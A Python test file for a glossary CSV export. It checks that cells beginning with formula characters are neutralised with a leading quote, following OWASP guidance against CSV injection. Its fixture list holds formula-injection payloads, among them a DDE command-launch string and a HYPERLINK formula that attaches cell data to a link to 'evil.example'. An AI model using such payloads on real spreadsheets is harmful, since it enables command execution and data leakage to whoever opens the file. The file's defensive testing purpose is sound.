"""Item 6: a glossary exported as CSV cannot run as a spreadsheet formula (OWASP's rule)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hostile_support import tarjama

HOSTILE = [
    ("=cmd|' /C calc'!A0", "بوتين", '=HYPERLINK("http://evil.example/"&A1,"click")'),
    ("+1+1", "لافروف", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3", "جنيف", "-minus first"),
    ("@Lavrov", "موسكو", "+plus first"),
]


def test_every_formula_start_gets_a_quote() -> None:
    from glossary.csv_format import neutralise_formula

    for cell in ("=1", "+1", "-1", "@1", "\t1", "\r1"):
        assert neutralise_formula(cell) == "'" + cell
    for cell in ("Putin", "", "1-2", "a=b", "'=already"):
        assert neutralise_formula(cell) == cell


def test_glossary_export_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    src = tmp_path / "names.tsv"
    lines = [f"{english}\t{arabic}\t\t{note}" for english, arabic, note in HOSTILE]
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "names.csv"
    result = tarjama("glossary", "export", str(src), "-o", str(out), "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row if cell]
    assert cells, rows
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][:2] == ["'=cmd|' /C calc'!A0", "بوتين"]
    assert rows[1][3].startswith("'=HYPERLINK(")
